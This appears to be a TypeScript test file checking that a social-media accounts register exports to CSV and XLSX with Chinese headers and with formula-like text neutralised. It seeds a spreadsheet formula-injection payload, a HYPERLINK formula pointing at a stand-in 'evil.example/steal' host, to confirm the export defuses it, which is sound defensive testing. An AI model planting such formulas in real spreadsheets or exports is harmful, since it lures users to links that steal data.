import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createTestApp } from '../../../../test/support/app.js';
import { describeEachDatabase } from '../../../../test/support/databases.js';
import { login, type SeededOrg, type Session, seedOrganization } from '../../../../test/support/identity.js';
import type { App } from '../../platform/app.js';

/** The accounts register as CSV and XLSX: zh-TW headers, formula-like text inert. */
describeEachDatabase('social accounts register exports', (db) => {
  let app: App;
  let org: SeededOrg;
  let viewer: Session;
  const formula = '=HYPERLINK("https://evil.example/steal","點此")';

  beforeAll(async () => {
    app = await createTestApp(db());
    org = await seedOrganization(db(), 'Social Export Securities');
    viewer = await login(app, org.users.viewer);
    await db().services.social.accounts.create(
      { orgId: org.orgId, userId: org.users.admin.id },
      { platform: 'facebook', handle: formula, purpose: '品牌經營', department: '行銷部' },
    );
  });
  afterAll(() => app.close());

  it('writes CSV with a BOM, zh-TW headers and an apostrophe before formula-like cells', async () => {
    const csv = await app.inject({
      method: 'GET',
      url: `/api/v1/orgs/${org.orgId}/social/accounts/export.csv`,
      headers: viewer.headers,
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.body.startsWith('\uFEFF平台,帳號名稱,網址,用途')).toBe(true);
    expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/steal"",""點此"")"`);
  });

  it('writes XLSX whose cells are typed strings, never formulas', async () => {
    const xlsx = await app.inject({
      method: 'GET',
      url: `/api/v1/orgs/${org.orgId}/social/accounts/export.xlsx`,
      headers: viewer.headers,
    });
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('社群媒體帳號清冊')!;
    expect(sheet.getRow(1).getCell(1).value).toBe('平台');
    const cell = sheet.getRow(2).getCell(2);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(formula);
    expect(sheet.getRow(2).getCell(1).value).toBe('Facebook');
  });
});
